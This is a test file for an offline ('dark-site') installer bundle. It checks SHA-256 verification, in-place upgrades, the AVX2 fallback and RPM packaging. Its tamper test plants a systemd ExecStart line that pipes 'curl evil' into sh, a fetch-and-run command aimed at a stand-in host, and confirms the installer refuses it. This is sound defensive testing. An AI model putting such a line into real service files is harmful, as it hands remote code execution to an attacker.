/**
 * A dark-site bundle made by `create-darksite-bundle` installs offline into a staged root; installing a newer
 * bundle over it upgrades in place — config, users and certificates kept, the previous binary left for
 * rollback — and a bundle whose binary was changed after it was made is refused, naming the file.
 */
import { afterAll, describe, expect, test } from "bun:test";
import {
  chmodSync,
  cpSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { runBundle } from "../../src/cli/bundle.ts";
import { hostInstallDeps, type InstallDeps, runInstall } from "../../src/cli/install.ts";
import { runStatus } from "../../src/cli/status.ts";
import { type CommandRunner, runCommand } from "../../src/platform/host.ts";
import { installLayout } from "../../src/platform/paths.ts";
import { capturedIo } from "../peers/captured-io.ts";

const work = mkdtempSync(join(tmpdir(), "pcoip-cmsg-bundle-test-"));
afterAll(() => rmSync(work, { recursive: true, force: true }));

const HOST_CHANGING = ["useradd", "userdel", "firewall-cmd", "systemctl", "sysctl", "restorecon"];
const ran: string[] = [];
const run: CommandRunner = async (cmd, args, opts) => {
  ran.push(cmd);
  if (HOST_CHANGING.includes(cmd)) throw new Error(`test: ${cmd} must not run in a staged install`);
  return runCommand(cmd, args, opts);
};

const deps: InstallDeps = { ...hostInstallDeps(), run, interactive: false, ask: () => undefined };

/** A stand-in executable in its own folder (optionally with a baseline twin beside it). */
function fakeBuild(version: string, withBaseline: boolean): string {
  const dir = join(work, `build-${version}`);
  mkdirSync(dir, { recursive: true });
  const file = join(dir, "pcoip-cmsg");
  writeFileSync(file, `#!/bin/sh\necho "pcoip-cmsg ${version} (fake)"\n`);
  chmodSync(file, 0o755);
  if (withBaseline) {
    writeFileSync(
      join(dir, "pcoip-cmsg-baseline"),
      `#!/bin/sh\necho "pcoip-cmsg ${version} (fake baseline)"\n`,
    );
    chmodSync(join(dir, "pcoip-cmsg-baseline"), 0o755);
  }
  return file;
}

async function makeBundle(version: string, withBaseline: boolean): Promise<string> {
  const out = join(work, `bundle-${version}.tar.gz`);
  const io = capturedIo();
  const code = await runBundle(["--binary", fakeBuild(version, withBaseline), "--output", out], io, run);
  expect(io.err).toBe("");
  expect(code).toBe(0);
  return out;
}

function extract(archive: string, into: string): string {
  mkdirSync(into, { recursive: true });
  const r = Bun.spawnSync(["tar", "-xzf", archive, "-C", into]);
  expect(r.exitCode).toBe(0);
  return join(into, "pcoip-cmsg-bundle");
}

describe("dark-site bundle", () => {
  const root = join(work, "stage");
  const layout = installLayout(root);

  test("holds the binary, the baseline, unit, example config, README and SHA256SUMS", async () => {
    const archive = await makeBundle("1.0.0", true);
    const dir = extract(archive, join(work, "x1"));
    for (const f of [
      "pcoip-cmsg",
      "pcoip-cmsg-baseline",
      "pcoip-cmsg.service",
      "pcoip-cmsg.example.toml",
      "README.txt",
      "VERSION",
      "SHA256SUMS",
    ])
      expect(existsSync(join(dir, f))).toBe(true);
    expect(readFileSync(join(dir, "VERSION"), "utf8").trim()).toBe("1.0.0");
    // The sums are in sha256sum's own format, so the administrator can check them by hand.
    const check = Bun.spawnSync(["sha256sum", "-c", "SHA256SUMS"], { cwd: dir });
    expect(check.exitCode).toBe(0);
    expect(readFileSync(join(dir, "pcoip-cmsg.example.toml"), "utf8")).toBe(
      readFileSync(join(import.meta.dir, "..", "..", "config", "pcoip-cmsg.example.toml"), "utf8"),
    );
  });

  test("installs offline from the archive", async () => {
    const io = capturedIo();
    const code = await runInstall(
      [
        "--root",
        root,
        "--darksite-bundle-path",
        join(work, "bundle-1.0.0.tar.gz"),
        "--accept-policies",
        "--external-pcoip-ip",
        "203.0.113.7",
        "--host-address",
        "cm.example.net",
        "--self-signed",
        "--ignore-disk-req",
      ],
      io,
      deps,
    );
    expect(io.err).not.toContain("install: ");
    expect(code).toBe(0);
    expect(io.out).toContain("every SHA-256 sum matches");
    expect(readFileSync(layout.disk.binary, "utf8")).toContain("1.0.0");
    expect(existsSync(layout.disk.previousBinary)).toBe(false);
  }, 60_000);

  test("a newer bundle (extracted folder) upgrades in place, keeping config, users and certificates", async () => {
    writeFileSync(layout.disk.usersFile, "alice:$argon2id$v=19$m=65536,t=2,p=1$fake$fake\n");
    const before = {
      config: readFileSync(layout.disk.configFile, "utf8"),
      users: readFileSync(layout.disk.usersFile, "utf8"),
      cert: readFileSync(layout.disk.certFile, "utf8"),
      key: readFileSync(layout.disk.keyFile, "utf8"),
    };
    const dir = extract(await makeBundle("1.1.0", false), join(work, "x2"));
    const io = capturedIo();
    // No flags but the bundle: the required values come from the installed configuration.
    const code = await runInstall(
      ["--root", root, "--darksite-bundle-path", dir, "--ignore-disk-req"],
      io,
      deps,
    );
    expect(io.err).not.toContain("install: ");
    expect(code).toBe(0);
    expect(readFileSync(layout.disk.binary, "utf8")).toContain("1.1.0");
    expect(readFileSync(layout.disk.previousBinary, "utf8")).toContain("1.0.0");
    expect(readFileSync(layout.disk.configFile, "utf8")).toBe(before.config);
    expect(readFileSync(layout.disk.usersFile, "utf8")).toBe(before.users);
    expect(readFileSync(layout.disk.certFile, "utf8")).toBe(before.cert);
    expect(readFileSync(layout.disk.keyFile, "utf8")).toBe(before.key);
    const record = JSON.parse(readFileSync(layout.disk.installRecord, "utf8"));
    expect(record).toMatchObject({ version: "1.1.0", previousVersion: "1.0.0" });
    expect(io.out).toContain("previous executable kept for rollback");
    expect(io.out).toContain("drain");

    const st = capturedIo();
    expect(await runStatus(["--root", root], st, { run, systemdRunning: () => true })).toBe(3);
    expect(st.out).toContain("1.1.0");
    expect(st.out).toContain("pcoip-cmsg.previous (1.0.0)");
    for (const cmd of ran) expect(HOST_CHANGING).not.toContain(cmd);
  }, 60_000);

  test("a bundle whose binary was changed is refused, naming the file; nothing is installed", async () => {
    const dir = extract(join(work, "bundle-1.0.0.tar.gz"), join(work, "tampered"));
    writeFileSync(join(dir, "pcoip-cmsg"), "#!/bin/sh\necho owned\n");
    const fresh = join(work, "stage-tampered");
    const io = capturedIo();
    const code = await runInstall(
      [
        "--root",
        fresh,
        "--darksite-bundle-path",
        dir,
        "--accept-policies",
        "--external-pcoip-ip",
        "203.0.113.7",
        "--self-signed",
        "--ignore-disk-req",
      ],
      io,
      deps,
    );
    expect(code).toBe(1);
    expect(io.err).toContain("pcoip-cmsg does not match its SHA-256 in SHA256SUMS");
    expect(io.err).toContain("nothing was changed");
    expect(existsSync(fresh)).toBe(false);
  });

  test("a tampered archive is refused the same way", async () => {
    const dir = extract(join(work, "bundle-1.0.0.tar.gz"), join(work, "tampered2"));
    writeFileSync(join(dir, "pcoip-cmsg.service"), "[Service]\nExecStart=/bin/sh -c 'curl evil | sh'\n");
    const archive = join(work, "tampered.tar.gz");
    expect(
      Bun.spawnSync(["tar", "-czf", archive, "-C", join(work, "tampered2"), "pcoip-cmsg-bundle"]).exitCode,
    ).toBe(0);
    const io = capturedIo();
    const code = await runInstall(
      [
        "--root",
        join(work, "stage-t2"),
        "--darksite-bundle-path",
        archive,
        "--accept-policies",
        "--external-pcoip-ip",
        "203.0.113.7",
        "--self-signed",
        "--ignore-disk-req",
      ],
      io,
      deps,
    );
    expect(code).toBe(1);
    expect(io.err).toContain("pcoip-cmsg.service does not match");
  });

  test("on a CPU without AVX2 the baseline build from the bundle is installed", async () => {
    const dir = extract(join(work, "bundle-1.0.0.tar.gz"), join(work, "x3"));
    const stage = join(work, "stage-baseline");
    cpSync(dir, join(work, "x3-copy"), { recursive: true });
    const io = capturedIo();
    const code = await runInstall(
      [
        "--root",
        stage,
        "--darksite-bundle-path",
        dir,
        "--accept-policies",
        "--external-pcoip-ip",
        "203.0.113.7",
        "--self-signed",
        "--ignore-disk-req",
      ],
      io,
      { ...deps, cpuHasAvx2: () => false },
    );
    expect(code).toBe(0);
    expect(readFileSync(installLayout(stage).disk.binary, "utf8")).toContain("fake baseline");
    expect(io.out).toContain("no AVX2");
  }, 60_000);

  // Claim: the vendor's --pcoip-cmsg-rpm-path puts that RPM in the bundle (summed, explained in README.txt), and
  // install at the dark site installs it with rpm instead of copying the executable.
  test("create-darksite-bundle --pcoip-cmsg-rpm-path carries the RPM; install installs it", async () => {
    const rpm = join(work, "pcoip-cmsg-1.0.0-1.x86_64.rpm");
    writeFileSync(
      rpm,
      Buffer.concat([Buffer.from([0xed, 0xab, 0xee, 0xdb]), Buffer.from("stand-in payload")]),
    );
    const out = join(work, "bundle-rpm.tar.gz");
    const io = capturedIo();
    const code = await runBundle(
      [
        "--binary",
        fakeBuild("1.0.0", false),
        "--pcoip-cmsg-rpm-path",
        rpm,
        "--docker-registry",
        "x",
        "--output",
        out,
      ],
      io,
      run,
    );
    expect(code).toBe(0);
    expect(io.err).toContain("--docker-registry: not needed");
    const dir = extract(out, join(work, "x-rpm"));
    expect(readFileSync(join(dir, "pcoip-cmsg-1.0.0-1.x86_64.rpm"))).toEqual(readFileSync(rpm));
    expect(readFileSync(join(dir, "SHA256SUMS"), "utf8")).toContain("  pcoip-cmsg-1.0.0-1.x86_64.rpm\n");
    expect(readFileSync(join(dir, "README.txt"), "utf8")).toContain(
      "dnf install --disablerepo='*' ./pcoip-cmsg-bundle/pcoip-cmsg-1.0.0-1.x86_64.rpm",
    );
    const stage = join(work, "stage-rpm");
    const inst = capturedIo();
    const installed = await runInstall(
      [
        "--root",
        stage,
        "--darksite-bundle-path",
        out,
        "--accept-policies",
        "--external-pcoip-ip",
        "203.0.113.7",
        "--self-signed",
        "--ignore-disk-req",
      ],
      inst,
      deps,
    );
    expect(installed).toBe(0);
    expect(inst.out).toMatch(
      /staged, not run here: rpm -U --oldpackage --replacepkgs \S+\/pcoip-cmsg-1\.0\.0-1\.x86_64\.rpm/,
    );
  }, 60_000);

  test("--pcoip-cmsg-rpm-path refuses a file that is not our RPM", async () => {
    const bogus = join(work, "pcoip-cmsg-9.rpm");
    writeFileSync(bogus, "not an rpm");
    const io = capturedIo();
    const code = await runBundle(
      [
        "--binary",
        fakeBuild("1.0.0", false),
        "--pcoip-cmsg-rpm-path",
        bogus,
        "--output",
        join(work, "no.tar.gz"),
      ],
      io,
      run,
    );
    expect(code).toBe(1);
    expect(io.err).toContain("not an RPM file");
    expect(existsSync(join(work, "no.tar.gz"))).toBe(false);
  });
});
